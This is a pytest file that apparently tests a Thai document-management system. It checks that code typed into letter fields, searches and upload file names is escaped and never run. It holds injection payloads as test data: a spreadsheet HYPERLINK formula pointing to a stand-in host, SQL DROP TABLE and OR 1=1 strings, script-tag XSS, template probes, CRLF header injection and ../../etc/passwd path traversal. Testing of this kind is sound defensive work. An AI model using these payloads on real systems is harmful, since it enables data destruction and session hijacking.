"""โค้ดในข้อความ (code in texts): SQL, HTML, scripts, formulas, templates in text fields. Kept as typed, never run."""

from __future__ import annotations

import csv
import html
import io
import re
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from saraban.api.schemas import SCHEMAS
from tests.common.sample_files import pdf
from tests.functional.bad_inputs.doors import CLERK, call, form_with, send_form
from tests.functional.bad_inputs.verbs import ADMIN

#: A formula in front, so that a spreadsheet would work it out; each of the others once.
CODE = (
    '=HYPERLINK("http://x"&A1) \'; DROP TABLE letters;-- "><script>alert(1)</script><img src=x onerror=alert(2)>'
    " ${7*7} {{7*7}} <?python 7*7 ?> %s %0d%0aSet-Cookie:x=1"
)
SHORT = "=1+1<script>alert(3)</script>"
#: What must stand in no page as it was typed.
RAW = ("<script>alert", "<img src=x", "<?python")
YEAR = "2567"


@pytest.fixture(scope="module")
def full(world):
    """A letter with code in all of its fields by the page, one by the API, and what is done with them."""
    fields = dict.fromkeys(
        ("from_text", "to_text", "subject", "references", "enclosures", "actions", "body", "action"), CODE
    )
    fields |= {
        "remark": CODE,
        "references": "=A1<script>alert</script>",
        "number": SHORT,
        "deadlines": f"๑๕ มี.ค. ๖๗ {CODE}",
    }
    done = send_form(world, "/receive/d54", "receive", fields, fresh=True)
    assert done.status == 303, done.said
    by_page = done.location.rpartition("/")[2]
    members = SCHEMAS["Incoming"]["properties"]
    texts = {n for n, s in members.items() if s["type"] == "string" and not {"format", "enum", "pattern"} & s.keys()}
    body = {n: CODE[: members[n].get("maxLength")] for n in texts} | {"number": SHORT + "ก"}
    body |= {"to": [CODE], "enclosures": [CODE], "actions": [CODE], "references": [{"number": CODE[:200]}]}
    body |= {"deadlines": [{"date": "2024-03-15", "text": CODE}]}
    by_api = world.api.post("/units/d54/received", body, by=CLERK)
    for key in (by_page, by_api["receipt"]):
        write_notes(world, key)
    return {"page": by_page, "api": by_api["receipt"], "letter": by_api["letter"], "body": body}


def write_notes(world, key):
    """Code in the words that are written beside a letter."""
    notes = [
        (f"/p/{key}?tab=endorse&act=propose", "to", {"to": CODE, "text": CODE, "verb": SHORT}, f"/p/{key}/propose"),
        (f"/p/{key}/forward", "others", {"others": "ฝ่ายการศึกษา", "text": CODE}, f"/p/{key}/forward"),
        (f"/p/{key}/place", "place", {"place": CODE[:200]}, f"/p/{key}/place"),
        (f"/p/{key}/close", "result", {"result": CODE}, f"/p/{key}/close"),
        (f"/p/{key}/reopen", "reason", {"reason": CODE}, f"/p/{key}/reopen"),
    ]
    for address, mark, fields, to in notes:
        done = send_form(world, address, mark, fields, to=to, fresh=True)
        assert done.status in {303, 409}, (address, done.status, done.said)


def looked_at(full):
    """Every page that shows something of it."""
    for door in ("page", "api"):
        yield from (f"/p/{full[door]}{tab}" for tab in ("", "?tab=facts", "?tab=files", "?tab=rights", "?tab=endorse"))
        yield f"/receive/d54/done/{full[door]}"
        yield f"/receive/d54/stamp/{full[door]}"
        yield f"/drafts/new?paper={full[door]}&answer=1"
    yield from ("/in-tray", "/registers?unit=d54", f"/registers/d54/receive/{YEAR}", "/originals?unit=d54", "/drafts")
    yield f"/registers/d54/receive/{YEAR}/print?from=1&to=99999"


def test_pages_show_it_and_run_nothing(world, full):
    shown = 0
    for address in looked_at(full):
        page = world.person().get(address).text
        assert not [raw for raw in RAW if raw in page], address
        shown += html.escape("<script>alert(1)</script>", quote=False) in page
        assert "49" not in re.findall(r"DROP TABLE.{0,160}", html.unescape(page)), address
    assert shown > 10


def test_it_is_given_back_as_it_was_typed(world, full):
    letter = world.api.get(f"/letters/{full['letter']}", by=CLERK)
    for name in ("from_unit", "body", "to", "enclosures", "actions"):
        assert letter[name] == full["body"][name], name
    assert letter["subject"] == " ".join(CODE.split())


def test_spreadsheets_hold_no_formula(world, full):
    at = f"/registers/d54/receive/{YEAR}/export"
    cells = [
        c for row in csv.reader(io.StringIO(world.person().get(f"{at}.csv").body.decode("utf-8-sig"))) for c in row
    ]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not [cell for cell in cells if re.match(r"[=+@\t\r]|-\D", cell)]
    book = load_workbook(io.BytesIO(world.person().get(f"{at}.xlsx").body))
    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert any(str(cell.value).startswith("'=HYPERLINK") for cell in found)
    assert not [cell for cell in found if cell.data_type == "f" or cell.hyperlink]


def test_sheets_hold_no_script(world, full):
    papers = (f"/p/{full['page']}/rendition.pdf", f"/p/{full['api']}/slip.pdf")
    for path in (*papers, f"/registers/d54/receive/{YEAR}/form.pdf"):
        sheet = world.person().get(path, expect_errors=True)
        if sheet.status_int == 409:  # a letter that nobody sent has no slip
            continue
        assert sheet.content_type == "application/pdf", path
        assert not re.search(rb"/(JavaScript|JS|OpenAction|AA|Launch|URI|EmbeddedFile)\b", sheet.body), path


WORDS = [CODE, "' OR 1=1 --", "*", "(", '"', "a AND", "\\", "[^", "%", "_", "ก" * 5000, "~" * 300]


@pytest.mark.parametrize("words", WORDS, ids=range(len(WORDS)))
def test_searching_for_it(world, full, words):
    before = world.office.database.lastTransaction()
    page = world.person().get("/search", params={"q": words})
    assert not [raw for raw in RAW if raw in page.text]
    found = call(world, "GET", f"/search?q={quote(words, safe='')}")
    assert found.status in {200, 422}
    assert world.office.database.lastTransaction() == before


FORMS = [
    (CLERK, "/drafts/new", "subject"),
    (CLERK, "/numbers/d54?do=issue", "remark"),
    (CLERK, "/numbers/d54?do=reserve", "who"),
    (ADMIN, "/admin/units?unit=d54-works&tab=unit", "abbreviation"),
    (ADMIN, "/admin/units?unit=d54-works&tab=people", "title"),
    (ADMIN, "/admin/units?unit=d54-works&tab=acting", "instrument"),
]
DAYS = {"dated", "until", "due", "answer_by", "since", "deadlines"}


@pytest.mark.parametrize(("by", "address", "mark"), FORMS)
def test_every_other_form(world, by, address, mark):
    """Taken as typed or refused with what was typed; never run, never an error of ours."""
    opened = form_with(world.person(by).get(address).text, mark)
    fixed = {
        "csrf_token",
        "request_id",
        "series",
        "unit",
        "kind",
        "signer_post",
        "urgency",
        "seen",
        "post",
        "person",
        "term",
    }
    texts = [n for n in opened.names if n not in fixed | DAYS and not n.startswith("_")]
    assert texts
    person = world.person(by)
    fields = [(n, v) for n, v in opened.fields if n not in texts]
    fields += [(n, "๑๕ มี.ค. ๖๗") for n in opened.names & DAYS] + [(n, SHORT) for n in texts]
    answer = person.browser.post(opened.action or address, fields, expect_errors=True)
    assert answer.status_int < 500, address
    page = answer.follow() if answer.status_int == 303 else answer
    again = person.get(address)
    assert not [raw for raw in RAW if raw in page.text + again.text], address


NAMES = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "..\\..\\autoexec.pdf": "autoexec.pdf",
    "C:\\จดหมาย\\หนังสือ.pdf": "หนังสือ.pdf",
    "/etc/cron.d/หนังสือ.pdf": "หนังสือ.pdf",
    "หนังสือ\x00.exe.pdf": "หนังสือ.exe.pdf",
    "หนังสือ\u202efdp.exe": "หนังสือfdp.pdf",
    "con.pdf": "_con.pdf",
    "..": "เอกสาร.pdf",
    "<script>alert(1)</script>.pdf": "script_.pdf",
    "=1+1.pdf": "=1+1.pdf",
    "ก" * 400 + ".pdf": "ก" * 66 + ".pdf",
}


@pytest.mark.parametrize(("sent", "kept"), NAMES.items())
def test_names_of_files(world, sent, kept):
    """A name leads nowhere and says nothing to a header: cleaned, shown, downloaded."""
    subject = f"ไฟล์ {len(sent)} {kept[:20]}"
    upload = [("files", sent.replace("\x00", "%00") if "\x00" in sent else sent, pdf())]
    by_page = send_form(world, "/receive/d54", "receive", {"subject": subject}, files=upload, fresh=True)
    by_api = world.api.post("/units/d54/received", {"subject": subject}, by=CLERK, files=[(sent, pdf())])
    letter = world.api.get(f"/letters/{by_api['letter']}", by=CLERK)
    assert [file["name"] for file in letter["files"]] == [kept]
    for key in (by_page.location.rpartition("/")[2], by_api["receipt"]):
        page = world.person().get(f"/p/{key}?tab=files")
        assert not [raw for raw in RAW if raw in page.text]
        link = re.search(r'href="(/l/\w+/files/\w+)"', page.text).group(1)
        header = world.person().get(link).headers["Content-Disposition"]
        assert header.startswith("attachment; ")
        assert not re.search(r"[\r\n\x00/\\]", header.replace("UTF-8''", ""))


@pytest.mark.parametrize("name", [b"x.pdf\r\nSet-Cookie: a=1\r\n.pdf", b'x.pdf"; filename="y.exe', b"x\xff.pdf"])
def test_names_that_break_their_header(world, name):
    person = world.person()
    token = world.form(CLERK, "/receive/d54", "receive").values["csrf_token"].encode()
    part = b'--x\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n%s\r\n'
    body = part % (b"csrf_token", b"", token) + part % (b"subject", b"", "ชื่อไฟล์".encode())
    body += part % (b"files", b'; filename="' + name + b'"', pdf()) + b"--x--\r\n"
    answer = person.browser.request(
        "/receive/d54", method="POST", body=body, content_type="multipart/form-data; boundary=x", expect_errors=True
    )
    assert answer.status_int in {303, 400, 422}
    assert "a=1" not in str(answer.headers)
